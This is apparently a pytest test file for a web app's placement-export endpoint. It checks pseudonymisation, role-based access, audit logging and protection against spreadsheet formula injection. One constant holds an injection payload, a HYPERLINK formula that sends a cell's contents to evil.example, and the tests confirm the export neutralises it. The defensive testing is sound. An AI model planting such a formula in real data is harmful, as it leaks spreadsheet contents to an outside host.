"""Exports of placements and outcomes: pseudonymised, formula-safe, each reader's own placements."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from stirrup import clock
from stirrup.models import AuditEvent, MilestoneKind, Outcome, Role
from stirrup.services.exports import COLUMNS
from tests.factories import Factory, Parties

URL = "/api/v1/exports/placements"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def exported(make: Factory) -> tuple[Parties, Parties]:
    """Two placements of two associations: one ended with checks, one running; the first
    association named like a formula, the household named with a sentinel."""
    ended = make.parties(start=clock.today() - timedelta(days=500), contact_name="SENTINEL-NAME Dupont")
    ended.organisation.name = EVIL
    make.milestone(
        ended.placement, MilestoneKind.HEALTH_COVER, ended.placement.start_date + timedelta(days=20)
    )
    make.ended(ended.placement, Outcome.SOCIAL_HOUSING)
    make.after_end_check(ended.placement, 6, Outcome.SOCIAL_HOUSING)
    running = make.parties(start=clock.today() - timedelta(days=30), contact_name="SENTINEL-NAME Martin")
    return ended, running


def rows_of(answer_text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer_text.lstrip("\ufeff")), delimiter=";"))


def test_coordinators_export_every_placement_pseudonymised_and_formula_safe(
    client: TestClient, make: Factory, db: Session
) -> None:
    ended, running = exported(make)
    coordinator = make.user(Role.COORDINATOR)
    answer = client.get(URL, headers=make.headers(coordinator))
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert (
        "attachment" in answer.headers["content-disposition"]
        and answer.headers["cache-control"] == "no-store"
    )
    assert "SENTINEL" not in answer.text
    first, second = rows_of(answer.text)
    assert list(first) == list(COLUMNS)
    assert (first["household_reference"], first["association"]) == (ended.household.reference, "'" + EVIL)
    assert (first["outcome"], first["situation_6_months"], first["situation_12_months"]) == (
        "social_housing",
        "social_housing",
        "",
    )
    assert first["milestones_reached"] == "health_cover" and first["status"] == "ended"
    assert (second["household_reference"], second["status"], second["outcome"]) == (
        running.household.reference,
        "active",
        "",
    )
    db.rollback()
    event = db.scalar(select(AuditEvent).where(AuditEvent.action == "export"))
    assert event is not None and event.actor_id == coordinator.id and event.details["rows"] == 2


def test_the_spreadsheet_holds_no_formula(client: TestClient, make: Factory) -> None:
    exported(make)
    answer = client.get(URL, params={"format": "xlsx"}, headers=make.headers(make.user(Role.COORDINATOR)))
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("application/vnd.openxml")
    sheet = load_workbook(io.BytesIO(answer.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + EVIL in [cell.value for cell in cells]
    assert not any("SENTINEL" in str(cell.value) for cell in cells)


def test_associations_export_their_own_and_others_none(client: TestClient, make: Factory) -> None:
    _, running = exported(make)
    [only] = rows_of(client.get(URL, headers=make.headers(running.staff)).text)
    assert only["household_reference"] == running.household.reference
    for user in (running.owner, running.worker):
        assert client.get(URL, headers=make.headers(user)).status_code == 403
    wrong = client.get(URL, params={"format": "pdf"}, headers=make.headers(running.staff))
    assert wrong.status_code == 422 and wrong.json()["error"]["fields"][0]["field"] == "format"
